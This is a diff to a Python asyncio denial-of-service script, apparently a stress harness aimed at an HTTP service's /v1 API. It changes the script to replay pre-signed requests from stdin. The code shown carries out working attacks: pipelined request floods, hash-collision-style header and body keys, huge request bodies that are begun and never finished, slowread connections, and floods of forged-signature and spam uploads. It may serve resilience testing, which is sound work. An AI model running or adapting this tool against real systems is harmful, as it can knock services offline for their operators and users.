@@ -31,12 +31,10 @@ class Field:
     host: str
     port: int
     until: float
-    blob: str
-    forged: Sequence[tuple[str, bytes]]
-    """Objects under known keys whose signatures are wrong."""
-    spam: Sequence[tuple[str, bytes]]
-    """Objects that newly registered parties really signed."""
+    ready: dict[str, list[bytes]]
+    """Requests that are signed already, by kind of attack."""
     done: Counter[str] = field(default_factory=Counter)
+    used: Counter[str] = field(default_factory=Counter)
 
     @property
     def going(self) -> bool:
@@ -48,9 +46,11 @@ class Field:
             asyncio.open_connection(self.host, self.port, local_addr=(source, 0), limit=4096), timeout=5
         )
 
-    def put(self, item: tuple[str, bytes]) -> bytes:
-        head = f"PUT /v1/objects/{item[0]} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(item[1])}\r\n\r\n"
-        return head.encode() + item[1]
+    def next(self, kind: str) -> bytes:
+        """The next request of its kind; they come round again when all are used."""
+        row = self.ready[kind]
+        self.used[kind] += 1
+        return row[self.used[kind] % len(row)]
 
 
 async def drain(reader: asyncio.StreamReader) -> None:
@@ -78,41 +78,38 @@ async def send_all(place: Field, kind: str, make: Callable[[], bytes], each: int
 
 
 async def flood(place: Field) -> None:
-    targets = ("/v1/feed?limit=100", "/v1/runs?limit=100", "/v1/log/checkpoint", f"/v1/objects/{ZERO}", "/v1/health")
-    many = "".join(f"GET {targets[n % 5]} HTTP/1.1\r\nHost: x\r\n\r\n" for n in range(PIPELINED)).encode()
-    await send_all(place, "flood", lambda: many, PIPELINED)
+    """Half signed, half not, many in one breath."""
+    open_to_all = b"GET /v1/health HTTP/1.1\r\nHost: x\r\n\r\n"
+
+    def many() -> bytes:
+        return b"".join(place.next("flood") if n % 2 else open_to_all for n in range(PIPELINED))
+
+    await send_all(place, "flood", many, PIPELINED)
 
 
 async def signatures(place: Field) -> None:
-    await send_all(place, "signatures", lambda: place.put(random.choice(place.forged)), 1)
+    await send_all(place, "signatures", lambda: place.next("signatures"), 1)
 
 
 async def log(place: Field) -> None:
-    await send_all(place, "log", lambda: place.put(random.choice(place.spam)), 1)
+    await send_all(place, "log", lambda: place.next("log"), 1)
 
 
 async def keys(place: Field) -> None:
     """Names and values that all look alike, as many as fit: in queries, in heads, in bodies."""
-    refs = "&".join(f"ref=m{n}:{n << 61:064x}" for n in range(1, 9))
     heads = "".join(f"X-{n}: {n << 61}\r\n" for n in range(1, 200))
-    body = json.dumps({f"{n << 61:x}": n for n in range(20_000)}, separators=(",", ":")).encode()
-    requests = (
-        f"GET /v1/feed?{refs} HTTP/1.1\r\nHost: x\r\n{heads}\r\n".encode(),
-        place.put((ZERO, body)),
-    )
-    await send_all(place, "keys", lambda: random.choice(requests), 1)
+    head = f"GET /v1/feed HTTP/1.1\r\nHost: x\r\n{heads}\r\n".encode()
+    await send_all(place, "keys", lambda: random.choice((head, place.next("keys"))), 1)
 
 
 async def bodies(place: Field) -> None:
     """Large bodies, announced and begun, and never finished."""
-    size = 24 * 1024 * 1024
-    head = f"PUT /v1/objects/{ZERO} HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode()
     while place.going:
         with suppress(OSError, TimeoutError):
             reader, writer = await place.connect()
             reading = asyncio.create_task(drain(reader))
             try:
-                writer.write(head)
+                writer.write(place.next("bodies"))
                 for _ in range(20):
                     if reading.done() or not place.going:
                         break
@@ -151,7 +148,7 @@ async def slowread(place: Field) -> None:
             reader, writer = await place.connect()
             place.done["slowread"] += 1
             try:
-                writer.write(f"GET /v1/blobs/{place.blob} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+                writer.write(place.next("slowread"))
                 while place.going and await asyncio.wait_for(reader.read(512), 5) != b"":
                     await asyncio.sleep(1)
             finally:
@@ -195,9 +192,9 @@ def main() -> None:
     url, seconds, *kinds = sys.argv[1:]
     parts = urlsplit(url)
     given = json.loads(sys.stdin.read())
-    forged, spam = ([(item[0], item[1].encode()) for item in given[name]] for name in ("forged", "spam"))
+    ready = {kind: [item.encode("latin-1") for item in row] for kind, row in given.items()}
     until = time.monotonic() + float(seconds)
-    place = Field(parts.hostname or "", parts.port or 0, until, given["blob"], forged, spam)
+    place = Field(parts.hostname or "", parts.port or 0, until, ready)
     asyncio.run(attack(place, kinds))
     print(json.dumps(place.done))
 
